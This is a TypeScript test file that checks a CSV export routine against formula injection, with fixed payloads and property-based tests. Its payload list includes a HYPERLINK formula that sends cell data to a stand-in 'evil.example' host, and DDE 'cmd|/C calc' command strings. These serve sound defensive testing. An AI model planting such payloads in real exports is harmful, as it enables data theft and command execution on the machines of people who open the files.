// CSV injection: texts of records do not become formulas in a program that opens an export or
// report, with any delimiter, and an import reads them back unchanged.
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { escapeFormula, unescapeFormula } from '../../../src/kernel/resource/csv-cells.ts'
import { lines } from '../../../src/kernel/resource/export.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  "'=1+1",
  "''=1+1",
  'x;=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n@SUM(1)',
  '","=1+1',
  '";=1+1;"',
  'x";=1+1',
]

/** Matches cells that a spreadsheet program evaluates, also after leading blanks. */
const computed = /^[ \u00a0\u3000]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/

/** Splits a text into cells like a program that ignores quotes and uses this delimiter. */
const cellsBy = (text: string, delimiter: RegExp): string[] =>
  text.split(/\r\n|\n|\r/).flatMap((line) => line.split(delimiter))

describe('a text in a table', () => {
  it.each(formulas)('is never computed: %j', (text) => {
    const table = lines([
      ['name', 'note'],
      ['Ada', text],
      [text, 'Ada'],
    ])
    const cells = parse(table) as string[][]
    for (const cell of cells.flat()) expect(cell).not.toMatch(computed)
    for (const cell of cellsBy(table, /[;\t]/)) expect(cell.replace(/^"/, '')).not.toMatch(computed)
    expect(cells.map((row) => row.map(unescapeFormula))).toEqual([
      ['name', 'note'],
      ['Ada', text],
      [text, 'Ada'],
    ])
  })

  it('comes back as it was, and begins no formula by any delimiter, whatever it is', () => {
    const unit = fc.constantFrom(...'=+-@\t\r\n\'",;| a1\uff1d\u00a0\u3000'.split(''))
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 12 }), (text) => {
        const table = lines([['id', text, 'end']])
        expect(unescapeFormula(escapeFormula(text))).toBe(text)
        expect((parse(table) as string[][])[0]?.map(unescapeFormula)).toEqual(['id', text, 'end'])
        for (const cell of cellsBy(escapeFormula(text), /[;\t]/)) expect(cell).not.toMatch(/^[=+\-@\uff1d]/)
      }),
      { numRuns: 2000, seed: 8 },
    )
  })

  it('that is harmless is left alone, and a number stays a number', () => {
    for (const text of ['a=b', 'a-b; c - d', "O'Neill", "it's", '1;2', 'a, =b', ''])
      expect(escapeFormula(text)).toBe(text)
    expect(lines([[-5, 'x', true, null]])).toBe('-5,x,true,\r\n')
  })
})
